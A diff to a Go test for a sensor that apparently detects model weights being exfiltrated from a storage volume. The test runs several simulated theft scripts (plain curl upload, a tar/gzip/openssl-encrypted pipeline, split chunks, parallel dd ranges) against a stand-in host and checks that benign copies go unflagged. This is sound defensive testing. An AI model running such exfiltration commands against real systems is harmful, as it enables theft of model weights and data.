@@ -140,42 +140,50 @@ func TestAModelThatLeavesIsToldByItsVolume(t *testing.T) {
 	p.start()
 	p.until(30*time.Second, "the model is known", func() bool { b := p.heartbeat(); return b != nil && len(b.Models) > 0 })
 	time.Sleep(12 * time.Second) // what is asked of the sensor follows what is known at the next heartbeat
-	volume := func() (list []event.Finding) {
-		list, _ = p.findings("weights_volume_left") // asked again
-		// This test itself hands out the download, and what it starts reads the model: of it the same is said.
-		return slices.DeleteFunc(list, func(f event.Finding) bool {
-			return !strings.Contains(f.Summary, "203.0.113.66") || strings.Contains(f.Summary, "node.test")
-		})
+	curl, err := os.ReadFile("/usr/bin/curl")
+	if err != nil {
+		t.Skip("needs /usr/bin/curl, under a name of each thief's own: ", err)
 	}
-	known := len(volume())
-	for _, theft := range []struct{ name, script string }{
-		{"a copy", `cp %[1]s %[2]s/a; curl -s -T %[2]s/a http://%[3]s/u; rm %[2]s/a`},
-		{"packed and encrypted in a pipeline", `tar cf - %[1]s 2>/dev/null | gzip -1 | openssl enc -aes-256-ctr -pass pass:x -pbkdf2 | curl -s -T - http://%[3]s/u`},
-		{"parts, each by a process of its own", `split -b 30m %[1]s %[2]s/p.; for f in %[2]s/p.*; do curl -s -T $f http://%[3]s/u; done; rm %[2]s/p.*`},
-		{"ranges at the same time", `for i in 0 1 2 3 4; do dd if=%[1]s bs=1M skip=$((i*100)) count=100 2>/dev/null | curl -s -T - http://%[3]s/u & done; wait`},
+	named := func(name string) string {
+		path := filepath.Join(p.dir, name)
+		if err := os.WriteFile(path, curl, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+	by := func(name string) (list []event.Finding) {
+		list, _ = p.findings("weights_volume_left") // asked again
+		return slices.DeleteFunc(list, func(f event.Finding) bool { return !strings.HasPrefix(f.Summary, name+" (pid") })
+	}
+	for i, theft := range []struct{ name, script string }{
+		{"a copy", `cp %[1]s %[2]s/a; %[4]s -s -T %[2]s/a http://%[3]s/u; rm %[2]s/a`},
+		{"packed and encrypted in a pipeline", `tar cf - %[1]s 2>/dev/null | gzip -1 | openssl enc -aes-256-ctr -pass pass:x -pbkdf2 | %[4]s -s -T - http://%[3]s/u`},
+		{"parts, each by a process of its own", `split -b 30m %[1]s %[2]s/p.; for f in %[2]s/p.*; do %[4]s -s -T $f http://%[3]s/u; done; rm %[2]s/p.*`},
+		{"ranges at the same time", `for i in 0 1 2 3 4; do dd if=%[1]s bs=1M skip=$((i*100)) count=100 2>/dev/null | %[4]s -s -T - http://%[3]s/u & done; wait`},
 	} {
-		d.run(p.dir, fmt.Sprintf(theft.script, model, tmp, d.addr))
+		thief := fmt.Sprint("thief", i)
+		d.run(p.dir, fmt.Sprintf(theft.script, model, tmp, d.addr, named(thief)))
 		if got := d.got.Load(); got < stolen*9/10 {
 			t.Fatalf("%s: only %d bytes arrived", theft.name, got)
 		}
-		p.until(60*time.Second, theft.name+" is told", func() bool { return len(volume()) > known })
-		list := volume()
-		known = len(list)
-		f := slices.MaxFunc(list, func(a, b event.Finding) int { return a.Time.Compare(b.Time) })
+		p.until(60*time.Second, theft.name+" is told", func() bool { return len(by(thief)) > 0 })
+		f := slices.MinFunc(by(thief), func(a, b event.Finding) int { return a.Time.Compare(b.Time) })
 		late := f.Time.Sub(time.Unix(0, d.fifth.Load()))
 		t.Logf("%s: %s by %v after a fifth had left: %s", theft.name, f.Severity, late, f.Summary)
-		if late > time.Minute || !strings.Contains(f.Summary, "model m") {
+		if late > time.Minute || !strings.Contains(f.Summary, "model m") || !strings.Contains(f.Summary, "203.0.113.66") {
 			t.Errorf("%s: %s", late, f.Summary)
 		}
 	}
 	for _, quiet := range []string{ // each a lineage of its own
 		`sha256sum %[1]s; cp %[1]s %[2]s/backup; rm %[2]s/backup`,
-		`curl -s -o %[2]s/layer http://%[3]s/; curl -s -T %[2]s/layer http://%[3]s/u; rm %[2]s/layer`,
+		`%[4]s -s -o %[2]s/layer http://%[3]s/; %[4]s -s -T %[2]s/layer http://%[3]s/u; rm %[2]s/layer`,
 	} {
-		d.run(p.dir, fmt.Sprintf(quiet, model, tmp, d.addr))
+		d.run(p.dir, fmt.Sprintf(quiet+"; : %[4]s", model, tmp, d.addr, named("puller")))
 	}
 	time.Sleep(12 * time.Second) // two looks
-	if n := len(volume()); n != known {
-		t.Errorf("%d findings of %d are about what is no theft: %s", n-known, n, volume()[0].Summary)
+	for _, name := range []string{"puller", "sha256sum", "cp"} {
+		for _, f := range by(name) {
+			t.Errorf("it is no theft: %s", f.Summary)
+		}
 	}
 }
